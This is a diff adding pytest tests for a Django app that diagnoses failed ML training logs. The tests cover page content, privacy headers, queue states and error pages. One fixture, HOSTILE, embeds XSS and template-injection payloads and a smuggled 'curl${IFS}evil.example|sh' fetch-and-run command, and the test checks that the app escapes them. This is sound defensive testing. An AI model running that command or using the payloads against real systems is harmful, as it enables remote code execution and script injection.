@@ -1,0 +1,250 @@
+from __future__ import annotations
+
+import datetime as dt
+import re
+from http import HTTPStatus
+
+import pytest
+from django.core.management import call_command
+from django.test import Client
+from django.utils import timezone
+
+from diagnosis import store
+from diagnosis.models import Job
+from diagnosis.samples import SAMPLES
+from diagnosis.store import StoreUnavailableError
+from tests.diagnosis.conftest import Answered, MakeJob, case_log
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("redis")]
+
+KILLED = "lab-sigkill-torchrun8"
+EVICTED = "sto-tgi-pod-stops-at-13-of-30"
+
+
+@pytest.fixture
+def failures(db: None) -> None:
+    call_command("load_failures", verbosity=0)
+
+
+def text_of(html: str) -> str:
+    return " ".join(re.sub(r"<[^>]+>", " ", html).split())
+
+
+def show(client: Client, job: Job) -> str:
+    response = client.get(f"/d/{job.pk}/")
+    assert response.status_code == HTTPStatus.OK
+    return response.text
+
+
+def test_it_works(client: Client, answered: Answered, failures: None) -> None:
+    page = show(client, answered(case_log(KILLED)))
+
+    text = text_of(page)
+    assert "Process Killed by SIGKILL" in text
+    assert "Failed first Rank 6" in text
+    assert 'href="/failures/process-killed-by-sigkill/"' in page
+    assert "Verify" in text
+    assert "F failed first" in text
+    assert page.count("<h1") == 1
+
+
+def test_page_is_private_and_not_for_search_engines(client: Client, answered: Answered) -> None:
+    response = client.get(f"/d/{answered(case_log(KILLED)).pk}/")
+
+    assert response["Cache-Control"] == "private, no-store"
+    assert response["X-Robots-Tag"] == "noindex"
+    assert "Set-Cookie" not in response
+
+
+def test_evidence_stands_in_its_context(client: Client, answered: Answered) -> None:
+    log = case_log(KILLED)
+    page = show(client, answered(log))
+
+    (line, *_) = re.findall(r'<li id="L(\d+)" class="log-evidence">', page)
+    lines = log.decode().split("\n")
+    for number in range(int(line) - 3, int(line) + 4):
+        assert f'id="L{number}"' in page
+    told = " ".join(lines[int(line) - 2].split())[:40]
+    assert told.split()[0] in text_of(page)
+
+
+def test_answer_names_the_failure_that_was_asked_about(
+    client: Client, answered: Answered, failures: None
+) -> None:
+    asked = {
+        "process-killed-by-sigkill": "Yes: this is",
+        "gloo-peer-closed": "follows from the cause",
+        "truncated-weights-file": "No: nothing in this log shows",
+    }
+    for slug, words in asked.items():
+        page = show(client, answered(case_log(KILLED) + slug.encode(), asked_about=slug))
+        assert words in text_of(page), slug
+
+
+def test_masked_values_are_named_by_line(client: Client, answered: Answered) -> None:
+    page = show(client, answered(b"first\ndialling 203.0.113.8\n" + case_log(KILLED)))
+
+    assert "&lt;ip-1&gt; IP address on line 2 of your log 1" in text_of(page)
+
+
+HOSTILE = b"""\
++ python train.py
+<script>alert(1)</script><img src=x onerror=alert(1)>
+The node was low on resource: ephemeral-storage. \
+Container x;curl${IFS}evil.example|sh was using 9Gi, which exceeds its request of 0.
+Traceback (most recent call last):
+  File "<svg/onload=alert(1)>.py", line 1, in <module>
+RuntimeError: </code></pre><script>alert(2)</script>{{ 7|add:7 }}{% debug %}
+"""
+
+
+def test_hostile_log_is_shown_as_text_and_never_in_a_command(
+    client: Client, answered: Answered, failures: None
+) -> None:
+    page = show(client, answered(HOSTILE))
+
+    assert "<script>alert" not in page
+    assert "<img src=x" not in page
+    assert "<svg/onload" not in page
+    commands = re.findall(r'<div class="command">.*?</div>', page, re.DOTALL)
+    assert not any("evil.example" in command for command in commands)
+    assert "14" not in re.findall(r"RuntimeError:.*", page)[0][:200]
+
+
+HEALTHY = b"".join(b"INFO step %d loss %.3f\n" % (n, 3 / n) for n in range(1, 60))
+TALK = b"""\
+CUDA kernel errors might be asynchronously reported at some other API call, \
+so the stacktrace below might be incorrect.
+For debugging consider passing CUDA_LAUNCH_BLOCKING=1
+This may be caused by an out of memory error. See the troubleshooting guide.
+"""
+
+
+@pytest.mark.parametrize("log", [HEALTHY, TALK + HEALTHY], ids=["healthy", "talk of errors"])
+def test_no_failure_is_never_called_healthy(client: Client, answered: Answered, log: bytes) -> None:
+    text = text_of(show(client, answered(log)))
+
+    assert "Nothing failed in what we read" in text
+    assert "not to say that the run was well" in text
+    assert "healthy" not in text.lower()
+
+
+def test_unreadable_text_costs_nothing(client: Client, answered: Answered) -> None:
+    job = answered(b"GGUF is how this file begins, and the engine knows what such files are\n")
+
+    text = text_of(show(client, job))
+
+    assert "We cannot read a run out of this text." in text
+    assert "given back" in text
+    assert not hasattr(job, "allowance_entry")
+
+
+def test_unrecognised_failure_says_so_and_where_to_start(
+    client: Client, answered: Answered
+) -> None:
+    log = b"""\
+step 1
+[rank2]: Traceback (most recent call last):
+[rank2]:   File "/workspace/train/odd.py", line 88, in fold
+[rank2]:     weave(strands)
+[rank2]: zephyr.loom.TangledStrandError: strand 7 crosses itself
+"""
+    text = text_of(show(client, answered(log)))
+
+    assert "Unrecognised" in text
+    assert "TangledStrandError: strand 7 crosses itself" in text
+    assert "Rank 2" in text
+    assert "Where to start" in text
+
+
+def test_symptom_alone_says_what_would_decide(
+    client: Client, answered: Answered, failures: None
+) -> None:
+    text = text_of(show(client, answered(case_log("comm-three-ranks-wait-for-stop-flag"))))
+
+    assert "Symptom only" in text
+    assert "the cause is not in this log" in text
+
+
+def test_lines_of_several_files_have_anchors_of_their_own(
+    client: Client, answered: Answered
+) -> None:
+    quiet = b"".join(b"step %d\n" % n for n in range(30))
+    loud = quiet + b"Traceback (most recent call last):\n  File \"t.py\", line 1\nKeyError: 'x'\n"
+
+    page = show(client, answered(quiet, loud))
+
+    assert re.search(r'id="F2-L3[123]" class="log-evidence"', page)
+
+
+@pytest.mark.parametrize("sample", SAMPLES)
+def test_sample_shows_the_whole_answer_and_says_that_it_is_one(
+    client: Client, failures: None, sample: str
+) -> None:
+    response = client.get(f"/d/{sample}/")
+
+    assert response.status_code == HTTPStatus.OK
+    assert "<title>SAMPLE: " in response.text
+    text = text_of(response.text)
+    assert "Evidence" in text
+    assert "Delete now" not in text
+    assert not response.cookies
+    assert not Job.objects.exists()
+
+
+def test_waiting_page_says_the_place_and_reloads_without_script(
+    client: Client, make_job: MakeJob
+) -> None:
+    make_job(queued_for=dt.timedelta(seconds=5))
+    job = make_job()
+
+    page = show(client, job)
+
+    assert "Number 2 in line." in page
+    assert '<noscript><meta http-equiv="refresh"' in page
+
+
+def test_running_page(client: Client, make_job: MakeJob) -> None:
+    job = make_job(state="running", lease="one", lease_until=timezone.now())
+
+    assert "The engine is reading it now." in show(client, job)
+
+
+@pytest.mark.parametrize("reason", Job.FailureReason.values)
+def test_failed_page_says_whose_fault_it_was(
+    client: Client, make_job: MakeJob, reason: str
+) -> None:
+    page = show(client, make_job(state="failed", failure_reason=reason))
+
+    assert "the fault is ours" in page
+    assert "given back" in page
+
+
+def test_unknown_id_is_a_404_that_says_so(client: Client) -> None:
+    response = client.get("/d/abcdefghijklmnopqrstuvwxyz/")
+
+    assert response.status_code == HTTPStatus.NOT_FOUND
+    assert "There is no diagnosis at this address" in response.text
+
+
+def test_expired_id_is_a_404_that_says_so(client: Client, make_job: MakeJob) -> None:
+    job = make_job(state="done", expires_at=timezone.now() - dt.timedelta(minutes=1))
+
+    response = client.get(f"/d/{job.pk}/")
+
+    assert response.status_code == HTTPStatus.NOT_FOUND
+    assert "This diagnosis has expired" in response.text
+
+
+def test_store_that_does_not_answer_is_a_503(
+    client: Client, make_job: MakeJob, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def away(_job_id: str) -> None:
+        raise StoreUnavailableError("TimeoutError")
+
+    monkeypatch.setattr(store, "read_verdict", away)
+
+    response = client.get(f"/d/{make_job(state='done').pk}/")
+
+    assert response.status_code == HTTPStatus.SERVICE_UNAVAILABLE
+    assert response["Retry-After"] == "30"
